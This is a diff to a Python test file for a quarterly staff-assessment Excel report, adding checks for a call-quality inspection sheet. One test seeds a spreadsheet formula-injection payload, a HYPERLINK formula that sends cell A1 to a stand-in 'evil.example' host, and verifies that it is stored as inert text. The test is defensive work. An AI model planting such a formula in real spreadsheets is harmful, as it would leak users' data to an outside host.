@@ -4,13 +4,19 @@ cases behind them, Excel and the command line — on SQLite and PostgreSQL."""
 from __future__ import annotations
 
 import json
+import zipfile
 from datetime import date
 
 import pytest
 from python_calamine import CalamineWorkbook
 from sqlalchemy import event
 
-from app.reports.feedback_xlsx import ASSESSMENT_SHEET, WORK_ORDER_SHEET, write_assessment_xlsx
+from app.reports.feedback_xlsx import (
+    ASSESSMENT_SHEET,
+    QUALITY_SHEET,
+    WORK_ORDER_SHEET,
+    write_assessment_xlsx,
+)
 from app.reports.staff_assessment import (
     COMPLAINT,
     DISSATISFIED,
@@ -25,6 +31,7 @@ from db.database import Database
 from db.models import CallbackTask, Case, Complaint, Staff
 
 from .feedback_data import CITY_HALL, HUAIYIN, LIXIA, at, seed_quarter
+from .qc_data import LI, ZHOU, seed_quality
 
 
 @pytest.fixture
@@ -169,11 +176,13 @@ def test_figures_are_grouped_in_the_database_whatever_the_volume(quarter):
                 )
         statements.clear()
         assessment = q3(database)
-        assert len(statements) == few <= 5  # 5: one asks whether anybody logs in (the role)
+        # 6: one asks whether anybody logs in (the role), one the quality inspection's figures
+        assert len(statements) == few <= 6
     finally:
         event.remove(database.engine, "before_cursor_execute", count)
     assert len(assessment.staff) == 205
-    assert sum("GROUP BY" in s.upper() for s in statements) == 2  # callbacks, complaints
+    # callbacks, complaints, quality inspection
+    assert sum("GROUP BY" in s.upper() for s in statements) == 3
 
 
 def test_to_json(quarter):
@@ -199,7 +208,7 @@ def test_xlsx_has_the_ranking_and_every_work_order(quarter, tmp_path):
     path = tmp_path / "staff.xlsx"
     write_assessment_xlsx(assessment, orders, path)
     book = CalamineWorkbook.from_path(str(path))
-    assert book.sheet_names == [ASSESSMENT_SHEET, WORK_ORDER_SHEET]
+    assert book.sheet_names == [ASSESSMENT_SHEET, WORK_ORDER_SHEET, QUALITY_SHEET]
 
     ranking = book.get_sheet_by_name(ASSESSMENT_SHEET).to_python()
     assert ranking[0][0] == "2026年第三季度经办人员回访不满意及投诉工单统计"
@@ -222,6 +231,55 @@ def test_xlsx_has_the_ranking_and_every_work_order(quarter, tmp_path):
         "经办、被投诉人员",
         "已办结",
     ]
+    # Nobody's calls were scored this quarter: the sheet says so.
+    quality = book.get_sheet_by_name(QUALITY_SHEET).to_python()
+    assert any(row[0] == "本季度没有已评分的回访通话。" for row in quality)
+
+
+def quality_rows(path) -> tuple[list[list], int]:
+    """The quality sheet's cells, and the row of its header."""
+    cells = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(QUALITY_SHEET).to_python()
+    return cells, next(i for i, row in enumerate(cells) if row[0] == "回访员")
+
+
+def test_xlsx_has_the_operators_quality_inspection(quarter, tmp_path):
+    database, _ids = quarter
+    seed_quality(database)
+    with database.sessions() as session:
+        assessment = staff_assessment(session, 2026, 3)
+        orders = work_orders(session, 2026, 3)
+    path = tmp_path / "staff.xlsx"
+    write_assessment_xlsx(assessment, orders, path)
+    cells, header = quality_rows(path)
+    assert cells[0][0] == "2026年第三季度回访员通话质检情况"
+    assert cells[1][0] == "统计期间：2026-07-01 至 2026-09-30（北京时间）"
+    # The monthly analysis's titles (app.reports.monthly_xlsx); the average as a share, 0.0%.
+    assert cells[header] == ["回访员", "质检通话数", "质检平均得分率", "关键项不合格数"]
+    assert cells[header + 1] == [ZHOU, 2, pytest.approx(130 / 150), 1]
+    assert cells[header + 2] == [LI, 3, pytest.approx(0.85), 0]
+    # The total's average is every point over every maximum, not the mean of the averages.
+    assert cells[header + 3] == ["合计", 5, pytest.approx(385 / 450), 1]
+    assert any(str(row[0]).startswith("3. 质检平均得分率 = 得分合计 / 满分合计") for row in cells)
+    # The ranking and the work orders are as they were.
+    ranking = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(ASSESSMENT_SHEET).to_python()
+    assert [row[1] for row in ranking if isinstance(row[0], (int, float))][:2] == ["杨帆", "周立群"]
+
+
+def test_hostile_operator_names_reach_the_quality_sheet_as_text(quarter, tmp_path):
+    database, _ids = quarter
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+    seed_quality(database, names=(link, "+1-2"))
+    with database.sessions() as session:
+        assessment = staff_assessment(session, 2026, 3)
+    path = tmp_path / "hostile.xlsx"
+    write_assessment_xlsx(assessment, [], path)
+    cells, header = quality_rows(path)
+    assert {cells[header + 1][0], cells[header + 2][0]} == {link, "+1-2"}
+    with zipfile.ZipFile(path) as book:
+        for name in book.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                xml = book.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, name
 
 
 def test_an_empty_quarter_still_writes_the_workbook(quarter, tmp_path):
@@ -231,6 +289,8 @@ def test_an_empty_quarter_still_writes_the_workbook(quarter, tmp_path):
     write_assessment_xlsx(assessment, [], path)
     ranking = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(ASSESSMENT_SHEET)
     assert any(row[0] == "本季度没有不满意或投诉工单。" for row in ranking.to_python())
+    cells, _header = quality_rows(path)
+    assert any(row[0] == "本季度没有已评分的回访通话。" for row in cells)
 
 
 def test_command_line(quarter, tmp_path, capsys):
@@ -255,6 +315,7 @@ def test_command_line(quarter, tmp_path, capsys):
     assert CalamineWorkbook.from_path(str(output)).sheet_names == [
         ASSESSMENT_SHEET,
         WORK_ORDER_SHEET,
+        QUALITY_SHEET,
     ]
 
     assert main([*args, "--format", "xlsx"]) == 2
